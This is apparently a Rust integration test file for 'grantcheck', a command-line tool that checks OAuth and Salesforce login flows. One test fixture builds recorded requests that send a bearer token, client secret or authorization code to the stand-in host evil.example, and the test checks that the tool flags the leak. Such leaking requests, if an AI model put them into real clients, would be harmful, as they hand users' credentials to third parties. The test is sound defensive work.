//! The command line, in process and as a spawned program.

use std::io::Read;
use std::process::{Command, Stdio};
use std::sync::Arc;

use crate::support::{Folder, answering, embedded, grantcheck, listens, root};
use grantcheck::org::Org;
use grantcheck::wire::Clock;
use grantcheck::wire::host::Host;

fn suite(name: &str) -> String {
    root().join(format!("suites/org/{name}.yaml")).display().to_string()
}

#[test]
fn a_conforming_run_exits_0_and_a_failing_one_1() {
    let (exit, out, err) = grantcheck(&["run", &suite("client-credentials")]);
    assert_eq!((exit, err.as_str()), (0, ""), "{out}");
    let (exit, out, _) = grantcheck(&["run", &suite("web-server"), "--fault", "code-reusable"]);
    assert_eq!(exit, 1);
    assert!(out.contains("FAIL") && out.contains("code/works-once") && out.contains("^^^"), "{out}");
}

#[test]
fn a_run_without_a_path_plays_the_shipped_suites() {
    let (exit, out, _) = grantcheck(&["run", "--list"]);
    assert_eq!(exit, 0);
    let (_, from_files, _) = grantcheck(&["run", "--list", &root().join("suites/org").display().to_string()]);
    assert_eq!(out, from_files, "the shipped suites are those of suites/org");
}

#[test]
fn what_a_person_got_wrong_exits_2_with_a_cure() {
    // No file system has such a name, whoever asks.
    let too_long = format!("json={}.json", "x".repeat(300));
    for (arguments, told) in [
        (vec!["run", "--target", "/no/such/file.yaml"], "/no/such/file.yaml"),
        (vec!["run", "--fault", "code-reusabel"], "did you mean `code-reusable`?"),
        (vec!["run", "--profile", "oauth"], "write `rfc` or `salesforce`"),
        (vec!["explore", "--select", "refreshes"], "the words are: authorize, redeem, refresh"),
        (vec!["explore", "--for", "long"], "write for example `500ms`, `60s` or `5m`"),
        (vec!["explore", "--target", "https://org.example"], "allow it with `--allow destructive`"),
        (vec!["run", "--within", "soon"], "write for example `500ms`"),
        (vec!["run", "--within", "2h"], "write `1h` or less"),
        (vec!["run", "--jobs", "0"], "write a number from 1"),
        (vec!["explore", "--runs", "0"], "write 1 or more"),
        (vec!["run", "suites/org/flows.yaml", "--report", "json=suites/org/flows.yaml"], "which is read"),
        (vec!["judge", "Cargo.toml", "--report", "json=Cargo.toml"], "which is read"),
        (
            vec!["run", "suites/org/flows.yaml", "--wrong", "everybody-renews"],
            "leave it out, or name a suite",
        ),
        (vec!["run", "suites/org/flows.yaml", "--program", "own"], "leave it out, or name a suite"),
        (
            vec!["run", "suites/client/login.yaml", "--fault", "code-reusable"],
            "leave it out, or name a suite",
        ),
        (vec!["explain", "invalid_grant", "--flow", "bogus"], "one of: web-server"),
        (vec!["score", "--jobs", "100000"], "write a number from 1"),
        (vec!["explore", "--steps", "100000"], "write a number from 3"),
        (vec!["run", "--report", &too_long], "File name too long"),
        (vec!["run", "--fault", "nothing of the kind"], "docs/mutants.md"),
        (vec!["run", "no/such/suite.yaml"], "or no path at all for the shipped ones"),
        (vec!["run", "suites/targets/embedded.yaml"], "write `--target suites/targets/embedded.yaml`"),
        (vec!["run", "--target", "suites/org/jwt-bearer.yaml"], "is a suite, and a target is asked for here"),
        (vec!["run", "--target", "login.example"], "a URL begins with `https://`"),
        (vec!["run", "--wrong", "everybody-renew"], "did you mean `everybody-renews`?"),
        (vec!["run", "https://acme.example"], "is judged by `--target https://acme.example`"),
        (vec!["run", "--report", "xml=x"], "json=FILE"),
        (vec!["run", "--report", "json=x,junit=x"], "name a file for each"),
        (vec!["run", "--report", "json=x,junit=./x"], "name a file for each"),
        (vec!["run", "--report", "json=x", "--record", "x"], "name a file for each"),
        (vec!["run", "--report", "json=/no/such/folder/x.json"], "is not there"),
        (vec!["run", "--record", "/no/such/folder/x.json"], "is not there"),
        (vec!["run", "--record", "src"], "is a folder"),
        (vec!["judge", "x.json", "--report", "json=src"], "is a folder"),
        (vec!["score", "--json", "/no/such/folder/x.json"], "is not there"),
        (vec!["score", "--markdown", "src"], "is a folder"),
        (vec!["score", "--json", "x", "--markdown", "x"], "name a file for each"),
        (vec!["run", "--select", "no scenario is called so"], "no scenario is selected"),
        (vec!["run", "--allow", "everything"], "--allow destructive"),
        (vec!["run", "--socket", "--target", "http://127.0.0.1:9"], "embedded org"),
        (vec!["explain", "code/works-onse"], "did you mean `code/works-once`?"),
        (vec!["explain", "nothing", "of", "note"], "is no check and no error that is known"),
        (vec!["explain", "invalid_grant", "--flow", "jwt-baerer"], "did you mean `jwt-bearer`?"),
        (vec!["schema", "suit"], "did you mean `suite`?"),
        (vec!["schema", "progam"], "did you mean `program`?"),
        (vec!["checks", "refesh/"], "did you mean `refresh/`?"),
        (vec!["judge", "Cargo.toml"], "not a grantcheck recording"),
        (vec!["launch"], "unrecognized subcommand"),
    ] {
        let (exit, _, err) = grantcheck(&arguments);
        assert_eq!(exit, 2, "{arguments:?}: {err}");
        assert!(err.contains(told), "{arguments:?}: {err}");
    }
}

#[test]
fn an_error_is_explained_as_somebody_has_it() {
    for what in [
        "invalid_grant: no client credentials user enabled",
        r#"{"error":"invalid_grant","error_description":"no client credentials user enabled"}"#,
        "error/no-client-credentials-user",
    ] {
        let (exit, out, err) = grantcheck(&["explain", what]);
        assert_eq!((exit, err.as_str()), (0, ""), "{what}");
        for told in
            ["error/no-client-credentials-user", "Run As", "clientCredentialsFlowUser", "look at", "source"]
        {
            assert!(out.contains(told), "{what}: {out}");
        }
    }
    // A code that is known is one, whatever check it is like.
    for what in ["app_not_found", "error=app_not_found"] {
        let (exit, out, err) = grantcheck(&["explain", what]);
        assert!(exit == 0 && out.contains("error/app-not-found"), "{what}: {out}{err}");
    }
    let (exit, _, err) = grantcheck(&["explain", "https://a/cb?code=aPrx.s3cr3t&refresh_token=5Aep.s3cr3t"]);
    assert!(exit == 2 && !err.contains("s3cr3t"), "{err}");
    let (exit, out, _) = grantcheck(&["explain", "tokens/policy-fits-the-scope"]);
    assert!(exit == 0 && out.contains("MUST: an app with refresh tokens") && out.contains("XML"), "{out}");
    let (exit, out, _) = grantcheck(&["explain", "invalid_grant: no client credential user enable"]);
    assert!(exit == 0 && out.contains("near to"), "{out}");
    let (_, out, _) =
        grantcheck(&["explain", "invalid_grant: expired authorization code", "--flow", "jwt-bearer"]);
    assert!(out.contains("`exp` is past") && !out.contains("redeemed before"), "{out}");
}

#[test]
fn an_error_is_read_from_standard_input_however_long_what_stands_before_it_is() {
    let body = "{\n  \"error\": \"invalid_grant\",\n  \"error_description\": \"audience is invalid\"\n}\n";
    let noise = "word_of_a_log ".repeat(220_000);
    for input in [body.to_owned(), format!("{noise}{body}"), format!("{}{body}", noise.replace(' ', "/"))] {
        let (exit, out, err) = answering(&["explain", "-"], false, &[&input]);
        assert!(exit == 0 && out.starts_with("error/audience-is-invalid  at the token"), "{out}{err}");
    }
    let (exit, _, err) = answering(&["explain", "-"], false, &[&noise]);
    assert!(exit == 2 && err.contains("is no check and no error"), "{err}");
    let (_, out, _) = grantcheck(&["explain", "https://a.example/cb?error=access_denied&state=x"]);
    assert!(out.starts_with("error/access-denied  at the authorization endpoint"), "{out}");
}

/// As a program, because only it reads standard input itself.
#[test]
fn what_is_piped_in_is_read_to_its_end() {
    use std::io::Write as _;
    let mut child = Command::new(env!("CARGO_BIN_EXE_grantcheck"))
        .args(["explain", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let body = b"{\n  \"error\": \"invalid_grant\",\n  \"error_description\": \"audience is invalid\"\n}\n";
    child.stdin.take().unwrap().write_all(body).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("error/audience-is-invalid"), "{out:?}");
}

#[test]
fn a_finding_about_a_known_error_tells_what_it_means() {
    let target = "org: embedded\napps:\n  main: { client_id: main, client_secret: s3cr3t, flows: [client-credentials] }\n";
    let folder = Folder::new("explained");
    let (suite, target_file) = (folder.path("suite.yaml"), folder.path("target.yaml"));
    std::fs::write(&target_file, target).unwrap();
    let steps = "  - scenario: a grant\n    steps:\n      - { do: client-credentials, with: { grant_type: nonsense } }\n";
    std::fs::write(&suite, format!("suite: explained\njudges: org\napp: main\nscenarios:\n{steps}")).unwrap();
    let (exit, out, err) = grantcheck(&["run", &suite, "--target", &target_file]);
    assert_eq!(exit, 1, "{out}{err}");
    assert!(out.contains("more  grantcheck explain error/unsupported-grant-type"), "{out}{err}");
    let (_, out, _) = grantcheck(&["run", &suite, "--target", &target_file, "--profile", "rfc"]);
    assert!(!out.contains("grantcheck explain error/"), "{out}");
}

#[test]
fn what_a_target_lacks_is_asked_for_where_somebody_sits() {
    let folder = Folder::new("lacking");
    let target = folder.path("target.yaml");
    let text = "org: embedded\napps:\n  main: { client_id: main, client_secret: \"${GRANTCHECK_NOT_SET}\", scopes: [api], flows: [client-credentials], \
                policy: { run_as: main } }\nusers: { main: { username: a@b.example, password: pw-0123456789 } }\n";
    std::fs::write(&target, text).unwrap();
    let run = ["run", &suite("client-credentials"), "--target", &target, "--select", "the right secret"];
    let (exit, _, err) = grantcheck(&run);
    assert!(exit == 2 && err.contains("the variable `GRANTCHECK_NOT_SET` is not set"), "{err}");
    let (exit, out, err) = answering(&run, true, &["s3cr3t-0123456789\n"]);
    assert!(exit == 0 && out.contains("1 pass"), "{out}{err}");
    assert!(err.contains("GRANTCHECK_NOT_SET` is not set; its value (not shown"), "{err}");
    assert!(!format!("{out}{err}").contains("s3cr3t"), "{out}{err}");
    // Nothing is none.
    let (exit, _, err) = answering(&run, true, &["\n"]);
    assert!(exit == 2 && err.contains("not set"), "{err}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_url_and_a_consumer_key_are_enough_to_begin() {
    let org = Arc::new(Org::new(&embedded(), &[], [7; 32]));
    let host = Host::start(org, Clock::real(), "127.0.0.1:0").await.unwrap();
    let (url, app) = (host.url(), embedded().apps["main"].clone());
    let told = tokio::task::spawn_blocking(move || {
        let run = &["run", &suite("client-credentials"), "--target", &url, "--select", "a wrong secret is"];
        let secret = app.client_secret.as_ref().unwrap().expose();
        let whole = answering(run, true, &[&app.client_id, secret, "", "y"]);
        assert!(!format!("{}{}", whole.1, whole.2).contains(secret), "{}{}", whole.1, whole.2);
        (whole, answering(run, true, &["", "y"]), answering(run, true, &[&app.client_id, "", "", "y"]))
    });
    let ((exit, out, err), nothing, neither) = told.await.unwrap();
    assert!(exit == 0 && out.contains("1 pass"), "{out}{err}");
    assert!(err.contains("names no app of http://127.0.0.1:") && err.contains("consumer key"), "{err}");
    assert_eq!((nothing.0, neither.0), (3, 3), "{}{}", nothing.2, neither.2);
    assert!(neither.2.contains("no flow can be played"), "{}", neither.2);
    host.stop().await;
}

#[test]
fn a_foreign_org_is_not_asked_without_leave() {
    let folder = Folder::new("budget");
    let target = folder.path("target.yaml");
    let text = "org: http://127.0.0.1:9\nprofile: rfc\napps: { main: { client_id: a, client_secret: b-secret, flows: [client-credentials] } }\nendpoints: { token: /token }\n";
    std::fs::write(&target, text).unwrap();
    let run = ["run", &suite("client-credentials"), "--target", &target, "--select", "wrong secret"];
    let (exit, _, err) = grantcheck(&run);
    assert_eq!(exit, 2);
    assert!(err.contains("--budget 2"), "{err}");
    // Nobody listens there: with leave the run goes on, and proves nothing.
    let (exit, _, err) = answering(&run, true, &["y\n"]);
    assert_eq!(exit, 3, "{err}");
    let (exit, _, _) = answering(&run, true, &["n\n"]);
    assert_eq!(exit, 2);
}

#[test]
fn the_stated_cost_counts_controls_cleaning_up_and_what_a_scenario_needs() {
    let folder = Folder::new("cost");
    let (target, suite) = (folder.path("target.yaml"), folder.path("suite.yaml"));
    let text = "org: http://127.0.0.1:9\nprofile: rfc\napps: { main: { client_id: a, client_secret: b-secret, flows: [client-credentials] } }\nendpoints: { token: /token }\n";
    std::fs::write(&target, text).unwrap();
    let scenarios = "suite: cost\njudges: org\nscenarios:\n  - scenario: one\n    steps: [{ do: client-credentials }]\n  - scenario: two\n    \
                     needs: [{ scenario: one }]\n    steps:\n      - do: client-credentials\n      - { do: client-credentials, without: client_secret, expect: { status: 401 } }\n    \
                     cleanup: [{ do: client-credentials }]\n";
    std::fs::write(&suite, scenarios).unwrap();
    let (_, _, err) = grantcheck(&["run", &suite, "--target", &target, "--select", "two"]);
    // Two steps, a control of two, one for cleaning up, one that is needed.
    assert!(err.contains("up to 6 token requests"), "{err}");
}

#[test]
fn what_a_stranger_s_scenario_needs_is_allowed_like_the_scenario() {
    let folder = Folder::new("needs");
    let (target, suite) = (folder.path("target.yaml"), folder.path("suite.yaml"));
    let text = "org: http://127.0.0.1:9\nprofile: rfc\napps: { main: { client_id: a, client_secret: b-secret, flows: [client-credentials] } }\nendpoints: { token: /token }\n";
    std::fs::write(&target, text).unwrap();
    let scenarios = "suite: needs\njudges: org\nscenarios:\n  - scenario: one\n    tags: [destructive]\n    steps: [{ do: client-credentials }]\n  - scenario: two\n    \
                     needs: [{ scenario: one }]\n    steps: [{ do: client-credentials }]\n";
    std::fs::write(&suite, scenarios).unwrap();
    let (_, out, _) = grantcheck(&["run", &suite, "--target", &target, "--select", "two", "--list"]);
    assert!(out.contains("it needs the scenario `one`: it is destructive"), "{out}");
}

#[test]
fn a_recording_is_judged_and_reports_are_written() {
    let folder = Folder::new("record");
    let (record, json, junit) = (folder.path("r.json"), folder.path("o.json"), folder.path("o.xml"));
    let reports = format!("json={json},junit={junit}");
    let (exit, _, _) = grantcheck(&[
        "run",
        &suite("refresh"),
        "--fault",
        "rotate-no-family",
        "--record",
        &record,
        "--report",
        &reports,
    ]);
    assert_eq!(exit, 1);
    let report: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
    assert_eq!(report["version"], 1);
    assert!(std::fs::read_to_string(&junit).unwrap().contains("<testsuites"));
    let (exit, out, _) = grantcheck(&["judge", &record]);
    assert_eq!(exit, 1);
    assert!(out.contains("refresh/reuse-kills-the-active-token"), "{out}");
}

const LISTENS: &str = "suite: what our batch client does at night
judges: client
scenarios:
  - scenario: it asks for one token and calls with it
    flow: client-credentials
    program: none
    expect:
      requests:
        - { to: token, grant_type: client_credentials, count: 1 }
        - { to: api, answered: { at_least: 1 } }
    checks: [renewal/server-to-server-asks-for-a-new-grant]
";

#[test]
fn a_suite_that_only_listens_judges_traffic_from_elsewhere() {
    let folder = Folder::new("listens");
    let (record, path) = (folder.path("r.json"), folder.path("listens.yaml"));
    let played = folder.path("played.yaml");
    let once = LISTENS.replace(
        "    program: none\n",
        "    org: { expire: { after_calls: 1 } }\n    program: { calls: 2 }\n",
    );
    let once = once.replace("count: 1 }", "count: 2 }");
    std::fs::write(&played, &once).unwrap();
    let (exit, out, _) = grantcheck(&["run", &played, "--record", &record]);
    assert_eq!(exit, 0, "{out}");
    // There is nobody to be played, so a run does not vouch for it.
    std::fs::write(&path, LISTENS).unwrap();
    let (_, out, _) = grantcheck(&["run", &path, "--all"]);
    assert!(out.contains("it only listens to traffic from elsewhere"), "{out}");
    let (exit, out, _) = grantcheck(&["judge", &record, "--suite", &path]);
    assert!(exit == 1 && out.contains("expected exactly 1 requests for client_credentials"), "{out}");
    assert!(out.contains("listens.yaml:9:"), "{out}");
    std::fs::write(&path, LISTENS.replace("count: 1 }", "count: 2 }")).unwrap();
    let (exit, out, _) = grantcheck(&["judge", &record, "--suite", &path]);
    assert!(exit == 0 && out.contains("1 pass"), "{out}");
    // Where nobody asked anything, there is nothing to say.
    let empty = folder.path("empty.json");
    let mut recorded: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&record).unwrap()).unwrap();
    recorded["exchanges"] = serde_json::json!([]);
    std::fs::write(&empty, recorded.to_string()).unwrap();
    let (exit, _, told) = grantcheck(&["judge", &empty, "--suite", &path]);
    assert!(exit == 2 && told.contains("there is no traffic in the recording"), "{told}");
    // A suite that plays somebody says nothing of what was recorded.
    let (exit, _, told) = grantcheck(&["judge", &record, "--suite", &played]);
    assert!(exit == 2 && told.contains("no scenario of these suites only listens"), "{told}");
}

/// Traffic of a client that logs in and calls as it should, and what else it does.
fn traffic(folder: &Folder, more: &[serde_json::Value]) -> String {
    let (org, client) = ("https://acme.my.salesforce.com", "http://localhost:1717/cb");
    let (code, state) = ("aPrxCode.0123456789abcdef", "abcdefghijklmnopqrstuv1234");
    let entry = |method: &str,
                 url: String,
                 form: &str,
                 headers: serde_json::Value,
                 status: u16,
                 body: String| {
        serde_json::json!({
            "startedDateTime": "2026-01-01T00:00:00Z", "time": 1,
            "request": {"method": method, "url": url, "headers": headers,
                "postData": {"mimeType": "application/x-www-form-urlencoded", "text": form}},
            "response": {"status": status, "headers": [{"name": "content-type", "value": "application/json"}],
                "content": {"size": body.len(), "text": body}},
        })
    };
    let none = serde_json::json!([{"name": "user-agent", "value": "app/1.0"}]);
    let bearer = serde_json::json!([{"name": "Authorization", "value": "Bearer 00Dxx!AccessTokenOfThis01"}]);
    let asked = format!(
        "{org}/services/oauth2/authorize?response_type=code&client_id=3MVG9.app&redirect_uri=http%3A%2F%2Flocalhost%3A1717%2Fcb\
         &state={state}&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256"
    );
    let form = format!(
        "grant_type=authorization_code&code={code}&client_id=3MVG9.app&client_secret=s3cr3t-of-the-app-01\
         &redirect_uri=http%3A%2F%2Flocalhost%3A1717%2Fcb&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
    );
    let granted = serde_json::json!({"access_token": "00Dxx!AccessTokenOfThis01", "token_type": "Bearer",
        "instance_url": org, "id": format!("{org}/id/00D/005"), "issued_at": "1767225603000", "signature": "x"});
    let mut entries = vec![
        entry("GET", asked, "", none.clone(), 302, String::new()),
        entry("GET", format!("{client}?code={code}&state={state}"), "", none.clone(), 200, "ok".into()),
        entry("POST", format!("{org}/services/oauth2/token"), &form, none, 200, granted.to_string()),
        entry("GET", format!("{org}/services/data/v62.0/limits"), "", bearer, 200, "{}".into()),
    ];
    entries.extend(more.iter().cloned());
    let path = folder.path("traffic.har");
    let file = serde_json::json!({"log": {"version": "1.2", "entries": entries}});
    std::fs::write(&path, file.to_string()).unwrap();
    path
}

#[test]
fn traffic_of_a_right_client_passes_without_a_target_and_what_it_tells_others_does_not() {
    let folder = Folder::new("traffic");
    let right = traffic(&folder, &[]);
    for target in [&[][..], &["--target", "https://acme.my.salesforce.com"]] {
        let (exit, out, err) = grantcheck(&[&["judge", &right], target].concat());
        assert_eq!(exit, 0, "{out}{err}");
    }
    let evil = |header: (&str, &str), form: &str| {
        serde_json::json!({
            "startedDateTime": "2026-01-01T00:00:02Z", "time": 1,
            "request": {"method": "POST", "url": "https://evil.example/x", "headers": [{"name": header.0, "value": header.1}],
                "postData": {"mimeType": "application/x-www-form-urlencoded", "text": form}},
            "response": {"status": 200},
        })
    };
    let referer = "http://localhost:1717/cb?code=aPrxCode.0123456789abcdef";
    for (more, check) in [
        (
            evil(("Authorization", "Bearer 00Dxx!AccessTokenOfThis01"), ""),
            "calling/token-goes-to-its-own-hosts",
        ),
        (evil(("x", "y"), "s=s3cr3t-of-the-app-01"), "authenticating/secret-stays-at-its-endpoints"),
        (evil(("x", "y"), "c=aPrxCode.0123456789abcdef"), "calling/token-goes-to-its-own-hosts"),
        (evil(("Referer", referer), ""), "secrets/referer-holds-none"),
    ] {
        let (exit, out, _) = grantcheck(&["judge", &traffic(&folder, &[more])]);
        assert!(exit == 1 && out.contains(check), "{check}: {out}");
        assert!(!out.contains("s3cr3t-of") && !out.contains("AccessTokenOfThis"), "{out}");
    }
}

const WAIVED: &str = "suite: waived
judges: org
scenarios:
  - scenario: waived
    waive: [{ check: code/works-once, because: we know }]
    steps: [{ do: authorize }, { do: redeem }, { do: redeem, expect: { status: 2xx } }]
  - scenario: not waived
    steps: [{ do: authorize }, { do: redeem }, { do: redeem, expect: { status: 2xx } }]
  - scenario: another
    waive: [{ check: code/works-once, because: we know }]
    steps: [{ do: jwt-bearer }]
";

#[test]
fn a_waiver_is_unused_only_where_it_was_played_and_waived_nothing() {
    let folder = Folder::new("waived");
    let path = folder.path("waived.yaml");
    std::fs::write(&path, WAIVED).unwrap();
    let unused = "the waiver of code/works-once waived nothing";
    // Waived in one scenario, held against the org in another: it was used.
    let (exit, out, _) = grantcheck(&["run", &path, "--fault", "code-reusable"]);
    assert!(exit == 1 && !out.contains(unused), "{out}");
    let (_, out, _) = grantcheck(&["run", &path, "--select", "another"]);
    assert!(out.contains(unused), "{out}");
    let (_, out, _) = grantcheck(&["run", &path, "--select", "not waived"]);
    assert!(!out.contains(unused), "{out}");
}

#[test]
fn a_report_that_cannot_be_written_keeps_nothing_else_back() {
    let folder = Folder::new("unwritable");
    let (record, junit) = (folder.path("r.json"), folder.path("o.xml"));
    // It can be looked at, and not written to.
    let taken = "/dev/full";
    let reports = format!("json={taken},junit={junit}");
    let (exit, out, err) =
        grantcheck(&["run", &suite("client-credentials"), "--report", &reports, "--record", &record]);
    assert_eq!(exit, 2);
    assert!(err.contains(taken) && out.contains(" pass, 0 fail"), "{out}{err}");
    assert!(std::fs::exists(&record).unwrap() && std::fs::exists(&junit).unwrap());
}

#[test]
#[cfg(target_os = "linux")]
fn a_disk_that_is_full_is_told_and_a_reader_that_went_away_is_not() {
    let told = |out: Stdio| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_grantcheck"));
        let done = command.arg("checks").stdout(out).output().unwrap();
        (done.status.code(), String::from_utf8(done.stderr).unwrap())
    };
    let full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let (exit, err) = told(full.into());
    assert!(exit == Some(2) && err.contains("standard output cannot be written to"), "{err}");
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    assert_eq!(told(writer.into()), (Some(2), String::new()));
}

#[test]
fn a_waiver_holds_in_a_recording_as_it_did_in_the_run() {
    let folder = Folder::new("waived-record");
    let (suite, target, record) =
        (folder.path("waived.yaml"), folder.path("target.yaml"), folder.path("r.json"));
    let waived = WAIVED.replace("  - scenario: not waived\n    steps: [{ do: authorize }, { do: redeem }, { do: redeem, expect: { status: 2xx } }]\n", "");
    std::fs::write(&suite, waived).unwrap();
    let run = ["run", &suite, "--fault", "code-reusable", "--record", &record];
    let (exit, out, _) = grantcheck(&[&run[..], &["--select", "waived"]].concat());
    assert!(exit == 0 && out.contains("code/works-once: we know"), "{out}");
    let (exit, out, _) = grantcheck(&["judge", &record]);
    assert!(exit == 0 && out.contains("code/works-once: we know") && out.contains("1 waived"), "{out}");
    // The same of what the target waives.
    let embedded = std::fs::read_to_string(root().join("suites/targets/embedded.yaml")).unwrap();
    let keys = root().join("suites/targets/keys").display().to_string();
    let waive = "waive:\n  - { check: code/, because: the target knows }\n";
    std::fs::write(
        &target,
        format!("{}\n{waive}", embedded.replace("${file:keys", &format!("${{file:{keys}"))),
    )
    .unwrap();
    std::fs::write(&suite, WAIVED.replace("    waive: [{ check: code/works-once, because: we know }]\n", ""))
        .unwrap();
    let (exit, out, err) = grantcheck(&[&run[..], &["--target", &target]].concat());
    assert!(
        exit == 0 && out.contains("because the target knows") || out.contains("the target knows"),
        "{out}{err}"
    );
    let (exit, out, _) = grantcheck(&["judge", &record]);
    assert!(exit == 0 && out.contains("code/works-once: the target knows"), "{out}");
}

#[test]
fn suites_of_the_same_folder_and_name_are_refused_and_one_named_twice_is_read_once() {
    let folder = Folder::new("same");
    for part in ["a", "b"] {
        std::fs::create_dir_all(folder.join(part).join("s1")).unwrap();
        let text = "suite: same\njudges: org\nscenarios:\n  - scenario: one\n    steps: [{ do: keys }]\n";
        std::fs::write(folder.join(part).join("s1/same.yaml"), text).unwrap();
    }
    let (a, b) = (folder.path("a/s1/same.yaml"), folder.path("b/s1/same.yaml"));
    let (exit, _, err) = grantcheck(&["run", &a, &b, "--list"]);
    assert_eq!(exit, 2, "{err}");
    assert!(err.contains(&a) && err.contains(&b) && err.contains("play them in two runs"), "{err}");
    let (exit, out, err) =
        grantcheck(&["run", &a, &folder.path("a"), &folder.path("a/../a/s1/same.yaml"), "--list"]);
    assert_eq!((exit, out.as_str()), (0, "s1/same › one\n"), "{err}");
}

#[test]
fn a_suite_may_begin_with_a_byte_order_mark() {
    let folder = Folder::new("mark");
    let path = folder.path("mark.yaml");
    let text = "\u{feff}suite: mark\njudges: org\nscenarios:\n  - scenario: one\n    steps: [{ do: keys }]\n";
    std::fs::write(&path, text).unwrap();
    let (exit, out, err) = grantcheck(&["run", &path]);
    assert_eq!((exit, err.as_str()), (0, ""), "{out}");
}

#[test]
fn the_catalogue_and_the_schemas_print() {
    let (exit, out, _) = grantcheck(&["checks", "refresh/"]);
    assert!(exit == 0 && out.contains("refresh/rotated-out-token-is-refused"));
    let (exit, out, _) = grantcheck(&["explain", "refresh/rotated-out-token-is-refused"]);
    assert!(exit == 0 && out.contains("RFC 9700") && out.contains("a record on which it fails"));
    for kind in ["suite", "target", "program", "report"] {
        let (exit, out, _) = grantcheck(&["schema", kind]);
        assert_eq!(exit, 0);
        serde_json::from_str::<serde_json::Value>(&out).unwrap();
    }
}

#[test]
fn what_init_writes_runs_as_it_is() {
    let folder = Folder::new("init");
    let (exit, _, _) = grantcheck(&["init", &folder.path("")]);
    assert_eq!(exit, 0);
    let (exit, out, err) =
        grantcheck(&["run", &folder.path("first.yaml"), "--target", &folder.path("target.yaml")]);
    assert_eq!(exit, 0, "{out}{err}");
    let (exit, _, err) = grantcheck(&["init", &folder.path("")]);
    assert!(exit == 2 && err.contains("is there already"), "{err}");
}

#[test]
fn exported_suites_run_from_where_they_were_written() {
    let folder = Folder::new("export");
    let (exit, _, _) = grantcheck(&["suites", "--export", &folder.path("")]);
    assert_eq!(exit, 0);
    let (exit, out, err) = grantcheck(&[
        "run",
        &folder.path("org/token.yaml"),
        "--target",
        &folder.path("targets/embedded.yaml"),
    ]);
    assert_eq!(exit, 0, "{out}{err}");
}

#[test]
fn serve_tells_its_address_and_answers() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_grantcheck"))
        .args(["serve", "--listen", "127.0.0.1:0"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let address = listens(&mut child);
    let mut stream = std::net::TcpStream::connect(&address).unwrap();
    use std::io::Write;
    write!(stream, "GET /services/data HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 200") && answer.contains("\"version\""), "{answer}");
    child.kill().unwrap();
    child.wait().unwrap();
}

#[test]
fn a_recording_answers_in_place_of_its_target_and_of_no_other() {
    let folder = Folder::new("replay");
    let file = folder.path("r.json");
    let (exit, out, err) = grantcheck(&["run", &suite("client-credentials"), "--record", &file]);
    assert_eq!((exit, err.as_str()), (0, ""), "{out}");
    let (exit, out, err) =
        grantcheck(&["run", &suite("client-credentials"), "--replay", &file, "--seed", "7"]);
    assert_eq!((exit, err.as_str()), (0, ""), "{out}");
    let other = folder.path("other.yaml");
    let target = "org: https://login.example.com\napps:\n  main: { client_id: another, client_secret: s, flows: [client-credentials] }\n";
    std::fs::write(&other, target).unwrap();
    let (exit, out, err) =
        grantcheck(&["run", &suite("client-credentials"), "--replay", &file, "--target", &other]);
    assert_eq!((exit, out.as_str()), (2, ""));
    let told = "is a recording of another target: for the app `admin-approved` it has the client_id";
    assert!(
        err.contains(told) && err.contains("the target no such app") && err.contains("--target"),
        "{err}"
    );
    let (exit, _, err) = grantcheck(&["run", "--replay", &file, "--fault", "code-reusable"]);
    assert!(exit == 2 && err.contains("leave `--replay` out"), "{err}");
    let (exit, _, err) = grantcheck(&["run", "--replay", &other]);
    assert!(exit == 2 && err.contains("is not a grantcheck recording"), "{err}");
    let (exit, _, err) = grantcheck(&["run", "--replay", &folder.path("nowhere.json")]);
    assert!(exit == 2 && err.contains("nowhere.json"), "{err}");
}

#[test]
fn what_exploring_finds_is_a_suite_that_run_plays() {
    let folder = Folder::new("explore");
    let (found, json) = (folder.path("found"), folder.path("found.json"));
    let explore = |more: &[&str]| {
        let report = format!("json={json}");
        let arguments = ["explore", "--seed", "1", "--runs", "40", "--out", &found, "--report", &report];
        grantcheck(&[&arguments[..], more].concat())
    };
    let (exit, out, err) = explore(&[]);
    assert_eq!((exit, err.as_str()), (0, "seed 1\n"), "{out}");
    assert!(out.contains("40 programs") && out.contains("nothing found"), "{out}");
    let (exit, out, _) = explore(&["--fault", "code-racy"]);
    assert_eq!(exit, 1, "{out}");
    let told: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
    let one = &told["found"][0];
    assert_eq!((one["check"].as_str(), one["steps"].as_u64()), (Some("code/race-has-one-winner"), Some(2)));
    let (exit, out, err) = grantcheck(&["run", &found, "--fault", "code-racy"]);
    assert!(exit == 1 && out.contains("code/race-has-one-winner"), "{out}{err}");
    let (exit, out, _) = grantcheck(&["run", &found]);
    assert_eq!(exit, 0, "{out}");
}
